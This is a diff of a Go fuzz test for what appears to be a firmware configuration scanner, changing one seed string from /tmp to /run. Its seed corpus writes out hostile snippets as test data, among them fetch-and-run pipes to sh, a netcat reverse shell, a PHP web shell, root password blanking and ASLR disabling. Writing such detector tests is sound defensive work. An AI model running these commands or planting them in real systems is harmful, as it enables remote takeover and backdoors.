@@ -235,7 +235,7 @@ func FuzzScan(f *testing.F) {
 	for _, s := range []string{"wget http://a/fw/b.bin", "curl -k", "(\"MinProtocol\" => \"TLSv1\"", "<form action=a method=get><input type=password></form>", "port=80", "option encryption 'none'", "rwcommunity a", "<?php system($_GET[a]);", "eval $QUERY_STRING", "src/gz a http://b", "flashcp a /dev/mtd1",
 		"curl http://a/b | sh", "wget -O /tmp/x http://a/x; sh /tmp/x", "chmod 777 /x", "uci set a.b.c=d", "openssl enc -K 00112233445566778899", "nc -e /bin/sh a 1", "sed -i 's/^root:.*/root::/' /etc/shadow", "PATH=.:/bin", "CONFIG_DEVMEM=y",
 		"{\"rtsp\":{\"auth\":\"none\"}}", "kernel.randomize_va_space=0", "sysctl -w a=b", "tftp -g -r x.bin", "passwd -d root", "x | while read c; do sh -c $c; done", "fw_setenv bootdelay 3", "cfg set a",
-		"{\"n\":\"a\",\"pwd\":\"b\",\"hidden\":true}", "Access-Control-Allow-Origin: *", "function on_message(t, p) os.execute(p) end", "unzip /mnt/sd/a -d /tmp/a; sh /tmp/a/b"} {
+		"{\"n\":\"a\",\"pwd\":\"b\",\"hidden\":true}", "Access-Control-Allow-Origin: *", "function on_message(t, p) os.execute(p) end", "unzip /mnt/sd/a -d /run/a; sh /run/a/b"} {
 		for _, p := range []string{"/a.sh", "/a.conf", "/a.html", "/a.php", "/etc/ssh/sshd_config", "/etc/config/wireless", "/etc/opkg.conf", "/etc/snmpd.conf", "/etc/mender/mender.conf", "/bin/x", "/boot/config-6", "/etc/sysctl.conf", "/etc/crontabs/root", "/etc/nginx/nginx.conf", "/etc/exports", "/init.rc", "/www/a.js", "/a.lua", "/etc/ppp/options", "/etc/config/ddns", "/etc/opkg/distfeeds.conf", "/etc/a.dat"} {
 			f.Add(p, []byte(s))
 		}
